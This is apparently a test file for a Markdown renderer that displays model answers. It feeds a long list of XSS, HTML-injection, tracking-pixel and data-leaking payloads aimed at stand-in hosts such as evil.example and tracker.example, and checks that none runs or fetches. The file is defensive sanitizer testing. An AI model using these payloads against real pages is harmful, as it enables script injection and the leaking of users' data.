// @vitest-environment jsdom
// What a model or a page wrote is shown, never run, and nothing in it fetches anything.
import { beforeEach, describe, expect, test, vi } from 'vitest';
import { blocksOf } from '../../src/panel/markdown/blocks';
import { htmlOf } from '../../src/panel/markdown/render';

function show(source: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = blocksOf(source).blocks.map(htmlOf).join('');
  document.body.replaceChildren(element);
  return element;
}

const HOSTILE: readonly string[] = [
  '<script>window.ran = true</script>',
  '<img src=x onerror="window.ran = true">',
  '<img src="https://tracker.example/p.gif">',
  '<svg onload="window.ran = true"><script>window.ran = true</script></svg>',
  '<svg><animate attributeName="href" values="javascript:window.ran=true"/></svg>',
  '<svg><style><img src=x onerror=window.ran=true></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=true&gt;">',
  '<math href="javascript:window.ran=true">click</math>',
  '<iframe src="javascript:window.ran=true"></iframe>',
  '<iframe srcdoc="<script>parent.ran=true</script>"></iframe>',
  '<form action="https://evil.example"><input name="q"><button>send</button></form>',
  '<style>@import url(https://tracker.example/a.css); body { display: none }</style>',
  '<link rel="stylesheet" href="https://tracker.example/a.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<video src="https://tracker.example/v" autoplay onplay="window.ran=true"></video><audio src="https://tracker.example/a">',
  '<details open ontoggle="window.ran=true">x</details>',
  '<a href="javascript:window.ran=true">click</a>',
  '<div style="background: url(https://tracker.example/b.png)">x</div>',
  '<p id="app" name="attributes">clobber</p><form id=outer><input name=parentNode>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=true>">',
  '<textarea><img src=x onerror=window.ran=true></textarea>',
  '<template><script>window.ran=true</script></template>',
  '<!--><img src=x onerror=window.ran=true>-->',
  '<![CDATA[<img src=x onerror=window.ran=true>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>window.ran=true</script></x>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="x" ping="https://tracker.example/ping">p</a>',
  '<portal src="https://evil.example"></portal><dialog open><button popovertarget=x>',
  '[click](javascript:window.ran=true)',
  '[click](JaVaScRiPt:window.ran=true)',
  '[click](java\nscript:window.ran=true)',
  '[click](&#106;avascript:window.ran=true)',
  '[click](&#x6A;avascript&colon;window.ran=true)',
  '[click](\u0001javascript:window.ran=true)',
  '[click](vbscript:msgbox)',
  '[click](data:text/html,<script>window.ran=true</script>)',
  '[click](file:///etc/passwd)',
  '[click](chrome-extension://abc/sidepanel.html)',
  '[click](blob:https://evil.example/1)',
  '<javascript:window.ran=true>',
  '[a]\n\n[a]: javascript:window.ran=true',
  '![x](https://tracker.example/p.gif)',
  '![x](javascript:window.ran=true)',
  '![x](data:image/png;base64,AAAA)',
  '![x" onerror="window.ran=true](https://tracker.example/p.gif)',
  '![a][b]\n\n[b]: https://tracker.example/ref.gif "t"',
  '[x](https://ok.example "t\\" onmouseover=\\"window.ran=true")',
  '[<img src=x onerror=window.ran=true>](https://ok.example)',
  '`<img src=x onerror=window.ran=true>`',
  '```"><img src=x onerror=window.ran=true>\ncode\n```',
  '```html\n<script>window.ran=true</script>\n```',
  '| <img src=x onerror=window.ran=true> | b |\n|---|---|\n| <script>window.ran=true</script> | d |',
  '$<img src=x onerror=window.ran=true>$',
  '$$\n\\href{javascript:window.ran=true}{x}\n$$',
  '$"><img src=x onerror=window.ran=true>$',
  '# <svg/onload=window.ran=true>',
  '> <iframe src=//evil.example>',
  '- [ ] <input type=checkbox onclick=window.ran=true>',
  '<a href="https://ok.example" target="_self" onclick="window.ran=true">x</a>',
  // Markup that is not closed must not swallow what follows it, nor send it anywhere.
  "<img src='https://tracker.example/?leak=",
  '<a href="https://tracker.example/?',
  '<table><tr><td>open',
  '</div></div></main><script>window.ran=true</script>',
];

const LINK = /^(https?:|mailto:)/;
const TAGS = new Set([
  'A', 'BLOCKQUOTE', 'BR', 'CODE', 'DEL', 'DIV', 'EM', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR', 'LI', 'OL', 'P', 'PRE', 'SPAN',
  'STRONG', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL',
]);

describe('hostile text', () => {
  beforeEach(() => {
    (window as unknown as { ran?: boolean }).ran = false;
  });

  test.each(HOSTILE.map((source) => [source]))('%s', (source) => {
    const fetched = vi.spyOn(globalThis, 'fetch');
    const element = show(source);
    for (const each of element.querySelectorAll('*')) {
      expect(TAGS.has(each.tagName), each.outerHTML).toBe(true);
      for (const { name, value } of each.attributes) {
        expect(name, each.outerHTML).not.toMatch(/^on|^(src|srcset|style|id|name|action|ping|poster|background|formaction|xlink:href)$/i);
        if (name === 'href') {
          expect(value).toMatch(LINK);
          expect(each.getAttribute('target')).toBe('_blank');
          expect(each.getAttribute('rel')).toBe('noopener noreferrer');
        }
      }
      if (each instanceof HTMLElement) each.click();
    }
    expect((window as unknown as { ran?: boolean }).ran).toBe(false);
    expect(fetched).not.toHaveBeenCalled();
  });

  test.each(HOSTILE.map((source) => [source]))('shows what follows it: %s', (source) => {
    const element = show(`${source}\n\nThe end of the answer.`);
    const fenced = source.startsWith('```') || source.includes('<!--') || source.includes('<?') || source.includes('<![');
    // A fence that is open to the end takes all text that follows, as in any Markdown.
    expect(element.textContent).toContain('The end of the answer.');
    if (!fenced) expect(element.lastElementChild?.textContent).toContain('The end of the answer.');
  });
});

describe('what is meant well', () => {
  test('HTML that a model writes is readable as what it is', () => {
    expect(show('Use `<b>` or <b>bold</b>.').textContent?.trim()).toBe('Use <b> or <b>bold</b>.');
  });

  test('a picture from elsewhere is a link, so nobody hears that the answer was read', () => {
    const [link] = show('![A tide table](https://pics.example/t.png)').querySelectorAll('a');
    expect([link?.textContent, link?.getAttribute('href'), link?.className]).toEqual(['A tide table', 'https://pics.example/t.png', 'picture']);
  });

  test('links, lists, tables, code and quotes', () => {
    const element = show('See [tides](https://tides.example/a?b=1&c=2).\n\n1. one\n2. two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quote\n\n```python\nprint("<x>")\n```');
    expect(element.querySelector('a')?.getAttribute('href')).toBe('https://tides.example/a?b=1&c=2');
    expect([...element.querySelectorAll('ol > li')].map((each) => each.textContent)).toEqual(['one', 'two']);
    expect([...element.querySelectorAll('th, td')].map((each) => each.textContent)).toEqual(['a', 'b', '1', '2']);
    expect(element.querySelector('td:last-child')?.getAttribute('align')).toBe('right');
    expect(element.querySelector('blockquote')?.textContent?.trim()).toBe('quote');
    expect(element.querySelector('code')?.textContent).toBe('print("<x>")\n');
    expect(element.querySelector('code')?.dataset['language']).toBe('python');
  });

  test.each([
    ['It costs $5 and $6 today.', []],
    ['Energy is $E = mc^2$ here.', ['E = mc^2']],
    ['\\(a_1\\) and $b$', ['a_1', 'b']],
    ['$$\n\\int_0^1 x\\,dx\n$$', ['\\int_0^1 x\\,dx']],
    ['\\[ x^2 \\]', ['x^2']],
    ['`$x$`', []],
  ])('formulas in %s', (source, formulas) => {
    const found = [...show(source).querySelectorAll<HTMLElement>('.formula')].map((each) => each.dataset['tex']);
    expect(found).toEqual(formulas);
  });

  test('tasks show their state', () => {
    expect([...show('- [x] done\n- [ ] open').querySelectorAll('li')].map((each) => each.textContent?.trim())).toEqual(['☑ done', '☐ open']);
  });
});
